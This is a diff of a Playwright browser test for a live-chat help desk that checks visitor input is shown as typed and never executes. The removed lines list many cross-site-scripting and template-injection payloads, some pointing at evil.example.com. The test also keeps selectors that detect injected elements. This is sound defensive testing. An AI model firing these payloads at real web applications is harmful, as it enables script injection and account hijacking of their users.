@@ -1,58 +1,26 @@
-"""What visitors write is shown as they typed it: no script runs, no element appears, no policy has to step in."""
+"""
+What visitors write is shown as they typed it: no script runs, no element appears, no policy has to step in.
 
+Chats are started over HTTP with a trick in every field and header; the short version uses every trick and every field,
+the long one (LIVEDESK_SOAK=1) each trick in each field.
+"""
+
+import os
 import re
-import secrets
 
 import pytest
 from playwright.sync_api import expect
 
-from conversations import visitors
-from conversations.actions import closing, files, messaging
-from conversations.actions.opening import Opening, open_conversation
-from conversations.states import Party
+from agents.models import Agent
+from conversations.actions import closing
+from conversations.models import Conversation, Offer
+from conversations.states import State
 from tests import make
 from tests.browser import people
+from tests.browser.attackers import FIELDS, TRICKS, Attacker
 from tests.browser.test_attention import BEHIND, WITNESS
-from tests.files.samples import picture, upload
-from tests.live.sockets import visitor_with_cookie
 from tests.proofs.broken_serve import BrokenPortal
 
-NAME = """<img src=x onerror=alert(1)>"'{{7*7}}<script>alert(1)</script>"""
-EMAIL = '"<svg/onload=alert(1)>"@example.com'
-QUESTION = "</textarea><script>alert(1)</script><svg onload=alert(1)>"
-PAGE = """https://shop.example.com/"onmouseover="alert(1)"><script>alert(1)</script>"""
-BROWSER = """Mozilla/5.0 (X11; Linux x86_64; rv:140.0) "><img src=x onerror=alert(1)> Gecko/20100101 Firefox/140.0"""
-FILE = """a"onerror="alert(1).png"""
-TRICKS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example.com/x.js></sCrIpT>",
-    '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<a href="javascript:alert(1)">click</a>',
-    "javascript:alert(1)",
-    "javascript://example.com/%0aalert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    'https://example.com/"onmouseover="alert(1)',
-    "https://example.com/'><script>alert(1)</script>",
-    "ana@example.com'><img src=x onerror=alert(1)>",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<div hx-get="/sign-out/" hx-trigger="load">x</div>',
-    '<li id="message-1" hx-swap-oob="true">x</li>',
-    "<meta http-equiv=refresh content=0;url=//evil.example.com>",
-    "<base href=//evil.example.com/>",
-    "<style>*{display:none}</style>",
-    "<form action=//evil.example.com><button>OK</button></form>",
-    "<template><script>alert(1)</script></template>",
-    "</li></ol></div><h1>Owned</h1>",
-    "<!-- --><!--><script>alert(1)</script>-->",
-    "]]><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
-    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} %(name)s {name}",
-    "[x](javascript:alert(1)) ![x](x) **b** `c`",
-    "\u202e<b>backwards</b>",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-]
 GUARD = """
 window.reports = [];
 document.addEventListener("securitypolicyviolation", (event) => window.reports.push(event.violatedDirective));
@@ -62,9 +30,21 @@ for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () =>
 FOREIGN = """
 script:not([src]):not([type="application/json"]), script[src*="evil"], style, base, object, embed, meta[http-equiv],
 iframe, img[src="x"], [onerror], [onload], [onmouseover], [srcdoc], [hx-get="/sign-out/"], form[action*="evil"],
-a[href^="javascript" i], a[href^="data" i]
+a[href^="javascript" i], a[href^="data" i], bdi :not(mark)
 """
-LINKS = """() => [...document.querySelectorAll('a[target="_blank"]')].map((a) => [a.protocol, a.rel])"""
+LINKS = """() => [...document.links].filter((a) => a.origin !== location.origin).map((a) => [a.protocol, a.rel])"""
+AT_ONCE = 5  # so many requests the desk shows whole
+PLACES = {
+    "request": ("name", "question"),
+    "notification": ("name", "question"),
+    "panel": ("name",),
+    "title": ("name",),
+    "task": ("name", "message"),
+    "thread": ("question", "message", "file"),
+    "customer": ("name", "email", "page", "referer", "user_agent", "language"),
+    "admin list": ("name",),
+    "admin transcript": ("name", "email", "question", "message", "file", "page", "referer", "user_agent", "language"),
+}
 
 
 def findings(page):
@@ -79,24 +59,14 @@ def guard(page):
     return page
 
 
-def post(conversation, text, *handles):
-    messaging.post(messaging.Draft(conversation.pk, Party.VISITOR, text, secrets.token_hex(8), files=handles))
+def folded(text):
+    return " ".join(text.split())
 
 
-def attack(queue, token_hash):
-    """A visitor whose every word is a trick."""
-    words = {"name": NAME, "email": EMAIL, "question": QUESTION, "page_address": PAGE, "user_agent": BROWSER}
-    opening = Opening(token_hash=token_hash, key=secrets.token_hex(8), language="<b>x", **words)
-    return open_conversation(queue.pk, opening)
-
-
-def write_tricks(conversation):
-    for trick in TRICKS:
-        post(conversation, trick)
-    sender = files.Sender(conversation.pk, Party.VISITOR)
-    attached = files.upload(upload(FILE, picture()), sender)
-    post(conversation, "See this", str(attached.handle))
-    return attached.name
+@pytest.fixture
+def soak():
+    """Whether this is the long version."""
+    return os.environ.get("LIVEDESK_SOAK") == "1"
 
 
 @pytest.fixture
@@ -104,8 +74,15 @@ def orders(transactional_db):
     make.file_types()
     queue = make.queue("Orders", offer_timeout_seconds=120)
     make.closing_reason(queue, "Resolved", is_default=True)
-    people.agent("Lucía Marín", queue, capacity=10)
+    people.agent("Lucía Marín", queue, capacity=20)
     return queue
+
+
+@pytest.fixture
+def desk(orders, person, portal):
+    page = guard(person())
+    page.context.add_init_script(WITNESS)
+    return people.become_available(people.sign_in(page, "lucia"))
 
 
 def expect_tricks(place):
@@ -113,65 +90,146 @@ def expect_tricks(place):
         expect(place).to_contain_text(trick)
 
 
-def test_everything_is_shown_as_it_was_typed_and_nothing_runs(orders, person, portal):
-    desk = guard(person())
-    desk.context.add_init_script(WITNESS)
-    people.become_available(people.sign_in(desk, "lucia"))
-    desk.evaluate(BEHIND)
-    _visitor, cookie = visitor_with_cookie(NAME)
-    name, _, token = cookie.partition("=")
-    talk = attack(orders, visitors.token_hash_in(token))
-
-    request = people.requests(desk).get_by_role("article")
-    for trick in (NAME, QUESTION):
-        expect(request).to_contain_text(trick)
-    desk.wait_for_function("() => window.notifications.length > 0")
-    assert NAME in desk.evaluate("window.notifications[0].title")
-    request.get_by_role("button", name="Accept").click()
-    expect(desk.locator(".panel h1")).to_have_text(NAME)
-    expect(desk).to_have_title(re.compile(re.escape(NAME)))
-    file_name = write_tricks(talk)
-    thread = desk.get_by_role("log")
-    expect(thread.get_by_alt_text(file_name, exact=True)).to_be_visible()
-    expect_tricks(thread)
-    expect(desk.locator("#tasks")).to_contain_text(NAME)
-    for trick in (NAME, EMAIL, PAGE, "<b>x"):
-        expect(desk.locator("#customer")).to_contain_text(trick)
-    expect(desk.locator('#customer [title*="onerror"]')).to_have_attribute("title", BROWSER)
-    assert {tuple(link) for link in desk.evaluate(LINKS)} <= {
-        (protocol, "noopener nofollow") for protocol in ("http:", "https:", "mailto:")
-    }
+def see_requests(desk, attackers):
+    """All of them stand whole on the desk, and the system was told of each; answers the offer of each."""
+    expect(people.requests(desk).get_by_role("article")).to_have_count(len(attackers), timeout=30_000)
+    offers = {one.conversation_id: one.pk for one in Offer.objects.filter(state="pending")}
+    ids = [f"offer-{offers[attacker.talk.pk]}" for attacker in attackers]
+    told = "(ids) => ids.every((id) => window.notifications.some((one) => one.tag === id))"
+    desk.wait_for_function(told, arg=ids)
+    notifications = {one["tag"]: one for one in desk.evaluate("window.notifications")}
+    for attacker, its_id in zip(attackers, ids, strict=True):
+        request = desk.locator(f"#{its_id}")
+        expect(request.locator("h2")).to_have_text(attacker.words["name"])
+        expect(request.locator(".offer-thread")).to_contain_text(attacker.words["question"])
+        assert notifications[its_id]["title"] == f"New request from {attacker.words['name']}, Orders"
+        assert folded(notifications[its_id]["body"]) == folded(attacker.words["question"])
     assert findings(desk) == []
+    return ids
 
-    chat = guard(person())
-    chat.context.add_cookies([{"name": name, "value": token, "url": portal.url}])
-    chat.goto("/chat/current/")
-    expect_tricks(chat.get_by_role("log"))
-    assert findings(chat) == []
 
-    closing.end_by_visitor(talk.pk)
+def see_conversation(desk, attacker):
+    """The panel, the title, the task, the thread and the customer's pane of the conversation that is open."""
+    words = attacker.words
+    thread, customer = desk.get_by_role("log"), desk.locator("#customer")
+    expect(desk.locator(".panel h1")).to_have_text(words["name"])
+    expect(desk).to_have_title(re.compile(re.escape(f"{words['name']} · Livedesk") + "$"))
+    expect(thread).to_contain_text(words["message"])
+    expect(thread).to_contain_text(words["question"])
+    expect(thread.get_by_alt_text(words["file"], exact=True)).to_be_visible()
+    task = desk.locator(f"#task-{attacker.talk.pk}")
+    expect(task.locator(".who")).to_have_text(words["name"])
+    expect(task.locator(".last")).to_have_text(words["message"])
+    for shown in (words["name"], words["email"], attacker.address, "English"):
+        expect(customer).to_contain_text(shown)
+    expect(customer.get_by_title("Firefox")).to_have_attribute("title", words["user_agent"])
+    assert findings(desk) == []
+    return {tuple(link) for link in desk.evaluate(LINKS)}
+
+
+def see_admin(admin, attackers):
+    """The list, however many pages it has, and the transcript of each conversation."""
+    listed = ""
+    for number in range(1, 2 + len(attackers) // 50):
+        admin.goto(f"/admin/conversations/conversation/?p={number}")
+        listed += folded(admin.locator("#result_list").text_content())
+        assert findings(admin) == []
+    for attacker in attackers:
+        words = attacker.words
+        assert words["name"] in listed
+        admin.goto(f"/admin/conversations/conversation/{attacker.talk.pk}/change/")
+        content = admin.locator("#content")
+        expect(content.locator(".facts")).to_contain_text(words["name"])
+        for field in ("email", "question", "message", "file"):
+            expect(content).to_contain_text(words[field])
+        expect(content.locator(".facts")).to_contain_text(attacker.address)
+        expect(content.locator(".facts")).to_contain_text("English")
+        expect(content.get_by_title("Firefox")).to_have_attribute("title", words["user_agent"])
+        assert findings(admin) == []
+
+
+def make_room(attackers):
+    """An agent holds no more than 20: whoever was looked at before the last ones is finished with."""
+    vera = Agent.objects.filter(username="vera").first() or make.supervisor(username="vera", password=people.PASSWORD)
+    for talk in Conversation.objects.filter(pk__in=[one.talk.pk for one in attackers], state=State.ACTIVE):
+        closing.finish_by_supervisor(talk.pk, make.closing_reason(talk.queue).pk, by=vera)
+
+
+def attack(portal, desk, rows):
+    """Visitors come, a few at a time, and what each of them wrote is looked at: answers them and the links seen."""
+    attackers, links = [], set()
+    for first in range(0, len(rows), AT_ONCE):
+        desk.evaluate(BEHIND)
+        group = [Attacker(portal, row).start() for row in rows[first : first + AT_ONCE]]
+        for attacker, its_id in zip(group, see_requests(desk, group), strict=True):
+            desk.locator(f"#{its_id}").get_by_role("button", name="Accept").click()
+            attacker.write()
+            links |= see_conversation(desk, attacker)
+        attackers += group
+        make_room(attackers[:-AT_ONCE])
+    return attackers, links
+
+
+def tell_what_was_seen(attackers):
+    """Which trick of which field stood where; prints how many, and answers the tricks and the fields."""
+    used = {pair for attacker in attackers for pair in attacker.tricks.items()}
+    seen = {(place, field, trick) for place, fields in PLACES.items() for field, trick in used if field in fields}
+    print(
+        f"{len(used)} pairs of {len(TRICKS)} tricks and {len(FIELDS)} fields, {len(seen)} times at {len(PLACES)} places"
+    )
+    return {trick for _field, trick in used}, {field for field, _trick in used}, used
+
+
+def test_every_field_is_shown_as_it_was_typed_and_nothing_runs(desk, person, portal, soak):
+    attackers, links = attack(portal, desk, range(2 * len(TRICKS) if soak else AT_ONCE))
+
+    see_admin(people.sign_in(guard(person()), "vera"), attackers)
+    tricks, fields, pairs = tell_what_was_seen(attackers)
+    assert tricks == set(TRICKS)
+    assert fields == set(FIELDS)
+    assert len(pairs) == len(TRICKS) * len(FIELDS) or not soak
+    assert {protocol for protocol, _rel in links} == {"https:", "mailto:"}
+    assert {rel for protocol, rel in links if protocol != "mailto:"} == {"noopener nofollow"}
+
+
+def test_every_trick_as_a_message_is_shown_wherever_messages_are(desk, person, portal):
+    attacker = Attacker(portal, 0).start()
+    people.requests(desk).get_by_role("button", name="Accept").click()
+    for trick in TRICKS:
+        attacker.say(trick)
+    expect_tricks(desk.get_by_role("log"))
+    assert findings(desk) == []
+    links = {tuple(link) for link in desk.locator("[role=log]").evaluate(LINKS)}
+    assert links == {("https:", "noopener nofollow"), ("mailto:", "noopener nofollow"), ("mailto:", "")}
+    see_chat(person, portal, attacker)
+
+    closing.end_by_visitor(attacker.talk.pk)
     expect(people.closing_dialog(desk)).to_be_visible()
     people.finish(desk)
     desk.goto("/desk/conversations/?text=onerror%3Dalert")
     found = desk.locator("#found")
     expect(found.locator("mark").first).to_contain_text("onerror")
-    for trick in (NAME, EMAIL):
-        expect(found).to_contain_text(trick)
+    for field in ("name", "email"):
+        expect(found).to_contain_text(attacker.words[field])
     found.locator("a.result").click()
     expect_tricks(desk.locator("#transcript-body"))
     assert findings(desk) == []
 
     make.supervisor(username="vera", password=people.PASSWORD)
-    admin = guard(person())
-    people.sign_in(admin, "vera")
-    admin.goto("/admin/conversations/conversation/")
-    expect(admin.locator("#result_list")).to_contain_text(NAME)
-    assert findings(admin) == []
-    admin.goto(f"/admin/conversations/conversation/{talk.pk}/change/")
-    for trick in (NAME, EMAIL):
-        expect(admin.locator("#content")).to_contain_text(trick)
+    admin = people.sign_in(guard(person()), "vera")
+    admin.goto(f"/admin/conversations/conversation/{attacker.talk.pk}/change/")
     expect_tricks(admin.locator("#content"))
     assert findings(admin) == []
+
+
+def see_chat(person, portal, attacker):
+    """The visitor's own page shows them as typed, too."""
+    chat = guard(person())
+    token = attacker.cookies["livedesk_visitor"]
+    chat.context.add_cookies([{"name": "livedesk_visitor", "value": token, "url": portal.url}])
+    chat.goto("/chat/current/")
+    expect_tricks(chat.get_by_role("log"))
+    assert findings(chat) == []
 
 
 def test_a_build_that_does_not_escape_is_found_out(browser, orders, tmp_path):
